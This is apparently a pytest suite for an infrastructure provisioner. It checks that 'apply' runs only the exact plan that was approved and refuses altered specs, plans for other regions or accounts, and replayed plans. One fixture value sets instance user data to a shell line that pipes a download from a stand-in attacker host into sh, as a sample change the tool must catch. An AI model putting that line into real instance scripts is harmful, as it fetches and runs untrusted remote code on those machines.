"""What was approved is carried out without a question, and nothing else is."""

from __future__ import annotations

import json
import stat
from pathlib import Path
from typing import Any

import pytest

import local_aws
from tests.support.cloud import Cloud, as_list
from tests.support.fixtures import Run
from tests.support.program import Program, Ran
from tests.support.specs import PROBE, ROLES_ONLY, having, lacking

OTHER = "0" * 40


def refused(ran: Ran, cloud: Cloud) -> None:
    assert ran.code == 4, ran.said
    assert cloud.writes() == []
    assert "this is not the plan that was approved" in ran.err


def test_by_its_digest_without_a_terminal(run: Run, program: Program, cloud: Cloud) -> None:
    spec = program.write(PROBE)
    text = program.run("plan", spec).out
    digest = text.strip().splitlines()[-1].removeprefix("Digest: ")
    assert digest == program.plan(spec).data["digest"]
    ran = run("apply", spec, "--expect", digest)
    assert ran.code == 0, ran.said
    assert len(cloud.live("probe")) == 2


def test_by_a_file_and_only_once(program: Program, cloud: Cloud) -> None:
    spec = program.write(PROBE)
    approved = program.plan_file(spec)
    assert stat.S_IMODE(approved.stat().st_mode) == 0o600
    assert json.loads(approved.read_text()) == program.plan(spec).data
    assert program.run("apply", spec, "--expect", approved).code == 0
    cloud.forget_calls()
    again = program.run("apply", spec, "--expect", approved)
    refused(again, cloud)
    assert "there is nothing to do any more; it may have been applied already" in again.err


def test_how_to_carry_out_a_plan_is_said_of_one_that_is_not_refused(
    program: Program, cloud: Cloud, tmp_path: Path
) -> None:
    spec, file = program.write(ROLES_ONLY), tmp_path / "p.json"
    command = f"provisioner apply {spec} --local --expect {file}"
    for options, code, told in (
        ([], 0, f"Plan written to {file}. To carry out exactly this: {command}"),
        (["--policy", "builtin:boundary"], 4, f"Plan written to {file}."),
    ):
        ran = program.run("plan", spec, "--out", file, *options)
        assert ran.code == code
        assert next(line for line in ran.out.splitlines() if line.startswith("Plan written")) == told


def test_another_digest_shows_the_present_plan_and_that_the_other_is_not_known(
    program: Program, cloud: Cloud
) -> None:
    ran = program.run("apply", program.write(PROBE), "--yes", "--expect", OTHER)
    refused(ran, cloud)
    assert "+ fleet/worker" in ran.out
    assert f"not {OTHER}" in ran.err
    assert "only the digest is known" in ran.err


def test_for_programs_stdout_stays_empty_when_it_is_refused(program: Program, cloud: Cloud) -> None:
    approved = program.plan_file(PROBE)
    other = program.write(having(PROBE, fleets__worker__count=3))
    ran = program.run("apply", other, "--format", "json", "--expect", approved)
    refused(ran, cloud)
    assert ran.out == ""
    assert "count in the spec 2 → 3" in ran.words
    assert "how many" not in ran.words


CHANGED: dict[str, tuple[dict[str, Any], str]] = {
    "the count": ({"count": 3}, "count in the spec  2 → 3"),
    "user data": ({"user_data": "#!/bin/sh\ncurl evil.example | sh\n"}, "calls of RunInstances"),
    "a key pair": ({"key_name": None}, "calls of RunInstances"),
    "what is open to the world": ({"metadata": {"http_tokens": "optional"}}, "calls of RunInstances"),
}


@pytest.mark.parametrize(("fields", "named"), CHANGED.values(), ids=CHANGED)
@pytest.mark.sampled
def test_another_spec_is_refused_and_what_differs_is_named(
    fields: dict[str, Any], named: str, program: Program, cloud: Cloud
) -> None:
    cloud.ec2.create_key_pair(KeyName="ops")
    before = having(PROBE, fleets__worker__key_name="ops")
    approved = program.plan_file(before)
    worker = {key: value for key, value in (before["fleets"]["worker"] | fields).items() if value is not None}
    cloud.forget_calls()
    ran = program.run("apply", program.write(having(before, fleets__worker=worker)), "--expect", approved)
    refused(ran, cloud)
    assert "~ create fleet/worker: differs from the approved plan" in ran.words
    assert " ".join(named.split()) in ran.words


def test_a_role_that_was_made_again_under_its_name_is_another(program: Program, cloud: Cloud) -> None:
    program.apply(ROLES_ONLY)
    approved = program.plan_file(lacking(ROLES_ONLY, "roles", "instance_profiles"))
    cloud.drop_profile("probe-worker")
    cloud.iam.delete_role(RoleName="probe-worker")
    tags = as_list({"team": "data", "provisioner:environment": "probe", "provisioner:region": "us-east-1"})
    cloud.make_role("probe-worker", "/provisioner/probe/", Tags=tags)
    cloud.make_profile("probe-worker", "probe-worker", "/provisioner/probe/", Tags=tags)
    cloud.forget_calls()
    spec = program.write(lacking(ROLES_ONLY, "roles", "instance_profiles"))
    ran = program.run("apply", spec, "--expect", approved)
    refused(ran, cloud)
    assert "unique id" in ran.out


def test_a_destroy_needs_the_plan_to_destroy(program: Program, cloud: Cloud) -> None:
    spec = program.write(PROBE)
    program.apply(PROBE)
    approved = program.plan_file(PROBE, "--destroy")
    cloud.forget_calls()
    ran = program.run("apply", spec, "--expect", approved)
    assert ran.code == 3
    assert "is a plan to destroy give it to `destroy`" in ran.words
    assert cloud.operations() == []
    assert program.run("destroy", spec, "--expect", approved).code == 0
    assert cloud.live("probe") == []


ELSEWHERE: dict[str, tuple[dict[str, Any], str]] = {
    "environment": ({"environment": "other"}, "is a plan for environment probe"),
    "region": ({"region": "eu-west-1"}, "is a plan for region us-east-1"),
    "account": ({"account_id": "210987654321"}, "is a plan for account 123456789012"),
}


@pytest.mark.parametrize(("fields", "message"), ELSEWHERE.values(), ids=ELSEWHERE)
def test_a_plan_for_somewhere_else_is_wrong(
    fields: dict[str, Any], message: str, program: Program, cloud: Cloud
) -> None:
    approved = program.plan_file(ROLES_ONLY)
    cloud.forget_calls()
    ran = program.run("apply", program.write({**ROLES_ONLY, **fields}), "--expect", approved)
    assert ran.code == 3
    assert message in ran.err
    assert cloud.operations() == []


def test_notes_that_come_change_no_digest(program: Program, cloud: Cloud) -> None:
    older, newer = (local_aws.add_image(cloud.server, f"base-{name}", "self") for name in ("old", "new"))
    local_aws.set_parameter(cloud.server, "/team/image", older)
    spec = having(PROBE, fleets__worker__image={"ssm": "/team/image"})
    program.apply(spec)
    more = having(spec, fleets__worker__count=3, fleets__worker__monitoring=True)
    before = program.plan(more)
    assert before.data["notes"] == []

    local_aws.set_parameter(cloud.server, "/team/image", newer)
    cloud.stranger("i-0123456789abcdef1", {"provisioner:environment": "probe"})
    after = program.plan(more)
    assert f"there is a newer image, {newer}" in str(after.data["notes"])
    assert len(after.data["notes"]) == 2
    assert after.data["digest"] == before.data["digest"]
    assert program.apply(more, "--expect", before.data["digest"]).code == 0


def test_what_was_approved_is_carried_out_to_its_end_where_a_reply_is_lost(
    program: Program, cloud: Cloud
) -> None:
    spec = program.write(PROBE)
    approved = program.plan_file(PROBE)
    cloud.break_with(local_aws.drop_reply("RunInstances", times=1))
    assert program.run("apply", spec, "--expect", approved).code == 0
    assert len(cloud.live("probe")) == 2


@pytest.mark.parametrize("command", ["plan", "apply"])
def test_what_is_wrong_on_the_command_line_sends_nothing(
    command: str, program: Program, cloud: Cloud, tmp_path: Path
) -> None:
    options = {"plan": ("--out", tmp_path), "apply": ("--expect", tmp_path / "missing.json")}
    ran = program.run(command, program.write(PROBE), *options[command])
    assert ran.code == 3
    assert ran.err.startswith("error: ")
    assert cloud.operations() == []
